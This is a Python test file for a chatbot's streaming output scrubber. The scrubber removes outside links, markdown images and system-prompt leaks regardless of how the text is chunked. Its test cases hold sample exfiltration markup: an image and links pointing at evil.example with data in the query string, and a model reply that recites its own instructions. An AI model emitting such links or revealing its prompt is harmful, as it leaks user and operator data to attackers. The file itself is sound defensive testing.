"""The streaming output scrubber: outside links and images never get through, whatever the
chunking."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dialog.safety import REMOVED, OutputScrubber

pytestmark = pytest.mark.unit

SECRET = (
    "You are the customer-support assistant of Northwind Shop. "
    "Answer the customer's question in one to three short sentences."
)


def _scrub(text: str, cuts: list[int] | None = None) -> str:
    cuts = sorted(set(cuts or []))
    pieces, last = [], 0
    for cut in cuts:
        if 0 < cut < len(text):
            pieces.append(text[last:cut])
            last = cut
    pieces.append(text[last:])
    return "".join(
        OutputScrubber(allowed_hosts={"northwind.example"}, secret_text=SECRET).scrub(pieces)
    )


CASES = [
    ("Refunds take 5 days. ![i](https://evil.example/x?d=secret)", "Refunds take 5 days. "),
    ("See [our page](https://evil.example/steal?c=123) now.", "See our page now."),
    ("Go to https://evil.example/a?b=c please", f"Go to {REMOVED} please"),
    ("Visit www.evil.example today", f"Visit {REMOVED} today"),
    (
        "See [help](https://help.northwind.example/returns).",
        "See [help](https://help.northwind.example/returns).",
    ),
    ("Plain answer with [brackets] and (parens).", "Plain answer with [brackets] and (parens)."),
    ("http is a protocol; hat and who are words.", "http is a protocol; hat and who are words."),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_scrubs_whole_text(text: str, expected: str) -> None:
    assert _scrub(text) == expected


@pytest.mark.parametrize(("text", "expected"), CASES)
@given(cuts=st.lists(st.integers(0, 80), max_size=12))
@settings(max_examples=40, deadline=None)
def test_chunking_never_changes_the_result(text: str, expected: str, cuts: list[int]) -> None:
    assert _scrub(text, cuts) == expected


def test_system_prompt_leak_is_cut() -> None:
    out = _scrub(
        (
            "Sure! My instructions: You are the customer-support assistant of Northwind Shop. "
            "Answer the customer's question in one to three"
        ),
        [10, 30, 50, 70],
    )
    assert "customer-support assistant of Northwind Shop. Answer the" not in out
    assert "removed" in out


def test_ordinary_answers_stream_promptly() -> None:
    scrubber = OutputScrubber()
    assert scrubber.feed("Standard shipping ") == "Standard shipping "
    assert scrubber.feed("costs 4.95 euros.") == "costs 4.95 euros."


def test_a_cut_between_the_bang_and_the_bracket_still_drops_the_image() -> None:
    text = "Refunds take 5 days. ![i](https://evil.example/x?d=secret)"
    assert _scrub(text, [text.index("[")]) == "Refunds take 5 days. "


def test_every_cut_of_up_to_two_pieces_gives_the_same_result() -> None:
    for text, expected in CASES:
        for first in range(1, len(text)):
            for second in range(first, len(text), 3):
                assert _scrub(text, [first, second]) == expected, (text, first, second)
